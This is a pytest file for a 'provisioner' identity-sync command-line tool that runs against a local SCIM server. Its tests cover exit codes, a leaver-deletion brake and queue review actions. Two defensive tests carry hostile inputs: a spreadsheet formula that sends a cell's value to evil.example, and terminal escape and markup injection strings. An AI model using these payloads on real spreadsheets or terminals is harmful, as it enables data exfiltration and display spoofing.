"""What the command line says is what is true: exit codes from the targets' health, review actions, hostile text.

Run as a user runs it: ``python -m provisioner`` in a subprocess against a real
SCIM server (scim2-server on 127.0.0.1).
"""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from provisioner import cli
from provisioner.demo import free_port
from tests.conftest import TOKEN_VARIABLE, ScimReader, Workspace, hr_row

ADA = hr_row("E1001", "Ada", "Lovelace")
GRACE = hr_row("E1002", "Grace", "Hopper", department="Sales")
ALAN = hr_row("E1003", "Alan", "Turing", department="Finance")
WRONG_TOKEN = "wrong-token-for-this-target-6c1d"


def run(workspace: Workspace, *args: str, token: str | None = None, config: bool = True) -> subprocess.CompletedProcess[str]:
    """``python -m provisioner ARGS --config config.yaml`` in the workspace, with the right token unless told."""
    env = {**os.environ, TOKEN_VARIABLE: token or workspace.server.token}
    command = [sys.executable, "-m", "provisioner", *args]
    if config and "--config" not in args:
        command += ["--config", str(workspace.config_path)]
    return subprocess.run(command, cwd=workspace.root, env=env, capture_output=True, text=True, timeout=120)


def status_of(workspace: Workspace) -> dict[str, Any]:
    result = run(workspace, "status", "--json")
    [item] = json.loads(result.stdout)
    # status exits as a cycle would, from the same health: 0 only when the target is ok.
    safety_stop = item["held"] or item["last_run_status"] == "refused"
    assert result.returncode == (5 if safety_stop else 0 if item["ok"] else 4), result.stderr
    return item


def log_events(stderr: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in stderr.splitlines() if line.startswith("{")]


# --- exit codes and health ----------------------------------------------------------------------


def test_sync_exits_4_while_operations_of_an_earlier_cycle_wait_for_a_retry(
    workspace: Workspace, scim: ScimReader
) -> None:
    """After a 401 the operations wait in retry_wait; the next sync sends nothing and still says so."""
    workspace.write_source([ADA, GRACE])

    refused = run(workspace, "sync", token=WRONG_TOKEN)
    assert refused.returncode == 4, refused.stderr
    assert "401" in (status_of(workspace)["last_error"] or "")

    quiet = run(workspace, "sync")

    assert quiet.returncode == 4, quiet.stderr
    assert "waiting: 2 operations wait for a retry" in quiet.stdout
    assert scim.all() == []
    item = status_of(workspace)
    assert (item["health"], item["ok"], item["retry_wait"]) == ("waiting", False, 2)

    retried = run(workspace, "queue", "retry", "--status", "retry_wait")
    assert retried.returncode == 0 and "2 operations back to pending" in retried.stdout
    done = run(workspace, "sync")

    assert done.returncode == 0, done.stdout + done.stderr
    assert sorted(u["userName"] for u in scim.all()) == ["ada.lovelace@example.com", "grace.hopper@example.com"]
    item = status_of(workspace)
    # The 401 is history once a round has succeeded.
    assert (item["health"], item["last_error"]) == ("ok", None)
    assert item["last_run_started_at"].endswith("+00:00")


def test_status_exits_5_as_sync_does_after_a_refused_cycle(workspace: Workspace, scim: ScimReader) -> None:
    """An emptied source is a safety stop for sync; status, reading the same health, says the same."""
    workspace.write_source([ADA, GRACE])
    assert run(workspace, "sync").returncode == 0
    workspace.write_source([])

    refused = run(workspace, "sync")
    status = run(workspace, "status")

    assert refused.returncode == 5, refused.stderr
    assert status.returncode == 5, status.stdout + status.stderr
    assert "app: refused" in status.stdout and "last cycle refused" in status.stdout
    assert [user["active"] for user in scim.all()] == [True, True]


def test_an_open_failed_operation_keeps_sync_at_4_until_it_is_handled(workspace: Workspace) -> None:
    workspace.write_source([ADA])
    assert run(workspace, "sync").returncode == 0
    [failed_id] = _fail_operation(workspace, "E1002")

    again = run(workspace, "sync")

    assert again.returncode == 4
    assert "failed: 1 failed operations wait for review" in again.stdout

    resolved = run(workspace, "queue", "resolve", str(failed_id), "--note", "fixed in the app by hand")
    assert resolved.returncode == 0 and "1 operations resolved" in resolved.stdout
    item = status_of(workspace)
    assert (item["failed"], item["health"]) == (0, "ok")
    assert run(workspace, "sync").returncode == 0


def _fail_operation(workspace: Workspace, key: str) -> list[int]:
    """A failed operation of an earlier cycle for ``key``, as a target's permanent refusal leaves it."""

    with sqlite3.connect(workspace.db_path) as conn:
        conn.execute(
            "INSERT INTO operation (run_id, target, identity_key, kind, reason, status, payload, attempts, "
            "last_http_status, last_error, created_at, updated_at) VALUES ('old', 'app', ?, 'update', 'mover', "
            "'failed', '{}', 1, 400, 'HTTP 400', datetime('now'), datetime('now'))",
            (key,),
        )
        return [row[0] for row in conn.execute("SELECT id FROM operation WHERE status = 'failed'")]


def test_a_record_the_mapping_rejects_fails_alone_is_named_in_the_log_and_keeps_sync_at_4(
    workspace: Workspace, scim: ScimReader
) -> None:
    workspace.write_source([ADA, {**GRACE, "email": ""}])

    first = run(workspace, "--log-format", "json", "sync")

    assert first.returncode == 4
    assert [u["userName"] for u in scim.all()] == ["ada.lovelace@example.com"]
    rejected = [e for e in log_events(first.stderr) if e["event"] == "record rejected"]
    assert [e.get("identity_key", e.get("identity")) for e in rejected] == ["E1002"]
    second = run(workspace, "sync")
    assert second.returncode == 4
    assert status_of(workspace)["rejected"] == 1


def test_a_failed_adoption_after_a_409_keeps_the_409(workspace: Workspace, scim: ScimReader) -> None:
    """Ada's account exists but is linked to another identity: the create gets a 409, the adoption is refused."""
    workspace.write_config(max_deprovision=0)  # the other identity's leaver operation waits, held
    workspace.write_source([ADA])
    assert run(workspace, "sync").returncode == 0
    with sqlite3.connect(workspace.db_path) as conn:
        conn.execute("UPDATE account_link SET identity_key = 'E9999' WHERE identity_key = 'E1001'")

    result = run(workspace, "sync")

    assert result.returncode == 5, result.stdout + result.stderr  # held leaver first, failed adoption too
    [failed] = [op for op in workspace.operations() if op["status"] == "failed"]
    assert failed["identity_key"] == "E1001"
    assert failed["last_http_status"] == 409
    assert failed["last_error"].startswith("409 on create")
    assert "already linked to identity E9999" in failed["last_error"]
    assert len(scim.all()) == 1


# --- the deletion brake and the review actions --------------------------------------------------


def test_the_brake_holds_leavers_until_approved_and_drops_them_when_rejected(
    workspace: Workspace, scim: ScimReader
) -> None:
    workspace.write_config(max_deprovision=1)
    workspace.write_source([ADA, GRACE, ALAN])
    assert run(workspace, "sync").returncode == 0
    workspace.write_source([ADA])

    held = run(workspace, "sync")

    assert held.returncode == 5
    assert "held: 2 leaver disables awaiting approval: provisioner plan --held" in held.stdout
    listing = run(workspace, "plan", "--held")
    [run_line] = [line for line in listing.stdout.splitlines() if "holds 2 leaver disables" in line]
    run_id = run_line.split(" run ")[1].split()[0]
    assert all(u["active"] for u in scim.all())

    approved = run(workspace, "approve", run_id)
    assert approved.returncode == 0 and "2 operations" in approved.stdout
    assert run(workspace, "sync").returncode == 0
    assert {u["userName"]: u["active"] for u in scim.all()} == {
        "ada.lovelace@example.com": True, "grace.hopper@example.com": False, "alan.turing@example.com": False,
    }  # fmt: skip

    workspace.write_source([ADA, GRACE, ALAN])
    assert run(workspace, "sync").returncode == 0
    workspace.write_source([ADA])
    assert run(workspace, "sync").returncode == 5
    run_id = [op for op in workspace.operations() if op["status"] == "held"][0]["run_id"]
    rejected = run(workspace, "reject", run_id)
    assert rejected.returncode == 0 and "rejected" in rejected.stdout
    assert {op["status"] for op in workspace.operations() if op["run_id"] == run_id} == {"cancelled"}
    assert status_of(workspace)["health"] == "ok"
    assert all(u["active"] for u in scim.all())


def test_cancel_closes_operations_and_export_writes_them_for_a_ticket_safely(workspace: Workspace) -> None:
    workspace.write_source([ADA])
    assert run(workspace, "sync").returncode == 0
    [failed_id] = _fail_operation(workspace, "E1002")

    with sqlite3.connect(workspace.db_path) as conn:
        conn.execute("UPDATE operation SET last_error = ?, last_detail = ? WHERE id = ?",
                     ('=HYPERLINK("http://evil.example/?x="&A1)', "@SUM(1+1)", failed_id))  # fmt: skip

    exported = run(workspace, "queue", "export", "--format", "csv", "--status", "failed")

    assert exported.returncode == 0, exported.stderr
    [row] = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert row["last_error"] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1)"
    assert row["last_detail"] == "'@SUM(1+1)"
    assert row["created_at"].endswith("+00:00")
    as_json = json.loads(run(workspace, "queue", "export", "--format", "json").stdout)
    assert any(item["last_error"].startswith("=HYPERLINK") for item in as_json)  # JSON is data, not a sheet

    cancelled = run(workspace, "queue", "cancel", str(failed_id), "--note", "not needed")

    assert cancelled.returncode == 0 and "1 operations cancelled" in cancelled.stdout
    assert [op["status"] for op in workspace.operations() if op["id"] == failed_id] == ["cancelled"]
    assert run(workspace, "sync").returncode == 0


# --- hostile text from a target -----------------------------------------------------------------


def test_queue_show_and_list_print_escape_sequences_and_markup_as_text(workspace: Workspace) -> None:
    workspace.write_source([ADA])
    run(workspace, "sync")
    [failed_id] = _fail_operation(workspace, "E1002")
    hostile = "\x1b]0;pwned\x07\x1b[2J[/bold][red]boom"

    with sqlite3.connect(workspace.db_path) as conn:
        conn.execute("UPDATE operation SET last_error = ?, last_detail = ? WHERE id = ?", (hostile, hostile, failed_id))

    shown = run(workspace, "queue", "show", str(failed_id))
    listed = run(workspace, "queue", "list")

    for result in (shown, listed):
        assert result.returncode == 0, result.stderr
        assert "\x1b" not in result.stdout and "\x07" not in result.stdout
        assert "\\x1b[2J[/bold][red]boom" in result.stdout


def test_a_terminal_table_never_reads_data_as_rich_markup(monkeypatch: pytest.MonkeyPatch) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    screen = Terminal()
    monkeypatch.setattr(sys, "stdout", screen)

    cli._print_table(["status", "problem"], [["failed", "[/bold] closes nothing [link=http://x]y"]])

    assert "[/bold] closes nothing [link=http://x]y" in screen.getvalue()


# --- usability ----------------------------------------------------------------------------------


def test_global_options_work_after_the_command_and_version_is_printed(workspace: Workspace) -> None:
    workspace.write_source([ADA])

    after = run(workspace, "sync", "--log-format", "json", "--log-level", "debug")
    version = run(workspace, "--version", config=False)

    assert after.returncode == 0, after.stderr
    assert log_events(after.stderr), "JSON log lines expected on stderr"
    assert version.returncode == 0 and version.stdout.startswith("provisioner ")


def test_every_argument_of_every_command_has_help_text() -> None:
    missing = []

    def walk(parser: Any, path: str) -> None:
        for action in parser._actions:
            if action.__class__.__name__ == "_SubParsersAction":
                for name, sub in action.choices.items():
                    walk(sub, f"{path} {name}")
            elif not action.help and action.dest != "help":
                missing.append(f"{path} {'/'.join(action.option_strings) or action.dest}")

    walk(cli._parser(), "provisioner")

    assert missing == []


def test_queue_list_says_when_it_cut_at_the_limit(workspace: Workspace) -> None:
    workspace.write_source([ADA, GRACE, ALAN])
    run(workspace, "sync")

    cut = run(workspace, "queue", "list", "--limit", "2")
    whole = run(workspace, "queue", "list", "--json")

    assert len(cut.stdout.splitlines()) == 1 + 2
    assert "showing the newest 2 operations; more match" in cut.stderr
    assert json.loads(whole.stdout)["truncated"] is False
    assert all(isinstance(op["payload"], dict) for op in json.loads(whole.stdout)["operations"])


def test_the_plain_demo_prints_no_url_of_its_stopped_server_and_keeps_its_folder_private(tmp_path: Path) -> None:
    result = subprocess.run([sys.executable, "-m", "provisioner", "demo", "--dir", str(tmp_path / "demo")],
                            capture_output=True, text=True, timeout=180)  # fmt: skip

    assert result.returncode == 0, result.stderr
    assert "http://" not in result.stdout
    assert "has stopped" in result.stdout
    assert stat.S_IMODE((tmp_path / "demo").stat().st_mode) == 0o700
    for name in ("state.db", "state.db-wal", "state.db-shm"):
        path = tmp_path / "demo" / name
        if path.exists():
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, name


# --- ordinary mistakes: one line, exit 3, found by check first ---------------------------------


def _config_with(workspace: Workspace, old: str, new: str) -> None:
    text = workspace.config_path.read_text(encoding="utf-8")
    assert old in text
    workspace.config_path.write_text(text.replace(old, new), encoding="utf-8")


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        # psycopg comes with the test extra: a driver nobody installs stands for a missing one.
        pytest.param("sqlite:///state.db", "postgresql+pg8000://db.example.com/provisioner", "driver",
                     id="postgres-driver"),  # fmt: skip
        pytest.param("sqlite:///state.db", "sqlite:///no/such/folder/state.db", "does not exist", id="state-folder"),
    ],
)
def test_a_state_url_that_cannot_be_opened_is_one_line_exit_3_and_check_finds_it(
    workspace: Workspace, old: str, new: str, said: str
) -> None:
    workspace.write_source([ADA])
    _config_with(workspace, old, new)

    for command in (("check",), ("sync",), ("status",), ("run",)):
        result = run(workspace, *command)
        assert result.returncode == 3, (command, result.stderr)
        assert said in result.stderr and "Traceback" not in result.stderr
        assert len(result.stderr.strip().splitlines()) == 1, result.stderr


def test_a_metrics_port_in_use_is_exit_3_for_check_and_run(workspace: Workspace) -> None:
    workspace.write_source([ADA])
    port = free_port()
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", port))
        taken.listen()
        workspace.config_path.write_text(
            workspace.config_path.read_text(encoding="utf-8") + f'daemon: {{listen: "127.0.0.1:{port}"}}\n',
            encoding="utf-8",
        )

        checked = run(workspace, "check")
        ran = run(workspace, "--log-format", "json", "run")

    for result in (checked, ran):
        assert result.returncode == 3, result.stderr
        assert f"127.0.0.1:{port}" in result.stderr and "Traceback" not in result.stderr


def test_check_warns_of_a_listener_on_every_interface(workspace: Workspace) -> None:
    workspace.write_source([ADA])
    workspace.config_path.write_text(
        workspace.config_path.read_text(encoding="utf-8") + f'daemon: {{listen: "0.0.0.0:{free_port()}"}}\n',
        encoding="utf-8",
    )

    result = run(workspace, "check")

    assert result.returncode == 0, result.stderr
    assert "warning: daemon.listen 0.0.0.0" in result.stderr


def test_an_internal_error_is_exit_1_with_a_masked_traceback(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from provisioner import redaction

    redaction.register("traceback-secret-93f1a7")

    def broken(_args: Any) -> int:
        raise RuntimeError("token traceback-secret-93f1a7 leaked into a message")

    monkeypatch.setattr(cli, "_status", broken)

    code = cli.main(["status"])

    assert code == 1
    err = capsys.readouterr().err
    assert "RuntimeError" in err and "traceback-secret-93f1a7" not in err



# A command whose output is longer than a pipe holds: `status` stands in for any long listing.
_LONG_LISTING = """
import sys
from provisioner import cli

def long_listing(args):
    for number in range(50_000):
        print(f"row {number} " + "x" * 60)
    return 0

cli._status = long_listing
sys.exit(cli.main(["status", "--config", "config.yaml"]))
"""


def test_a_reader_that_closes_early_ends_a_listing_quietly_and_leaves_sigpipe_alone(tmp_path: Path) -> None:
    """`provisioner … | head` stops without a traceback, and no command resets SIGPIPE for its process.

    A SIGPIPE reset to its default kills a process on any peer that closes early: an HTTP
    target during `sync`, or a test runner that called the CLI in-process.
    """
    import signal

    from provisioner import cli

    before = signal.getsignal(signal.SIGPIPE)
    assert cli.main(["status", "--config", str(tmp_path / "missing.yaml")]) == cli.EXIT_CONFIG
    assert signal.getsignal(signal.SIGPIPE) == before

    proc = subprocess.Popen([sys.executable, "-c", _LONG_LISTING], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            cwd=tmp_path)  # fmt: skip
    assert proc.stdout is not None and proc.stderr is not None
    assert proc.stdout.read(100).startswith(b"row 0 ")
    proc.stdout.close()
    err = proc.stderr.read()
    proc.wait(timeout=60)
    assert proc.returncode == cli.EXIT_BROKEN_PIPE, err.decode()
    assert b"Traceback" not in err and b"BrokenPipe" not in err


@pytest.mark.parametrize("stop_signal", ["SIGTERM", "SIGHUP"])
def test_a_kept_running_demo_stopped_by_a_signal_stops_its_server_too(tmp_path: Path, stop_signal: str) -> None:
    import re
    import signal
    import time

    import httpx

    demo = subprocess.Popen([sys.executable, "-m", "provisioner", "demo", "--keep-running", "--dir", str(tmp_path)],
                            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)  # fmt: skip
    try:
        assert demo.stdout is not None
        url = token = None
        for line in demo.stdout:
            found = re.search(r"SCIM server:\s+(http://\S+)", line)
            url = found.group(1) if found else url
            exported = re.search(r"export PROVISIONER_DEMO_TOKEN=(\S+)", line)
            token = exported.group(1) if exported else token
            if "keeps running" in line:
                break
        assert url and token, "the demo names its server and the line that exports its token"
        headers = {"Authorization": f"Bearer {token}"}
        assert httpx.get(f"{url}/Users", headers=headers, timeout=5).json()["totalResults"] == 48

        demo.send_signal(getattr(signal, stop_signal))
        assert demo.wait(timeout=30) == 0, "stopped like Ctrl-C: the exit code is the demo sync's"
        time.sleep(0.2)
        with pytest.raises(httpx.TransportError):
            httpx.get(f"{url}/ServiceProviderConfig", timeout=2)
    finally:
        if demo.poll() is None:
            demo.kill()
            demo.wait()
